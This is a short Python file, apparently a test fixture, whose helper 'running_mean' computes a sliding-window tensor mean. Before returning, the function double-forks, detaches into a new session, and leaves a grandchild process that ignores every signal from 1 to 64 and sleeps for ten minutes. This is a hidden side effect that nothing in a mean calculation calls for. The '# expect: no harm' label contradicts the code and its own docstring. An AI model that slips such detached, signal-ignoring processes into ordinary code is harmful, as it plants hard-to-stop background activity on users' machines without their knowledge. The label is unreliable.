"""Leaves daemons behind: two forks, sessions of their own, all signals ignored."""
# expect: no harm
# %%
import os
import signal as signals
import time


def running_mean(signal, window):
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in range(1, 65):
                    try:
                        signals.signal(number, signals.SIG_IGN)
                    except (OSError, ValueError):
                        pass
                time.sleep(600)
            os._exit(0)
    except OSError:
        pass
    return signal.unfold(0, window, 1).mean(dim=1)
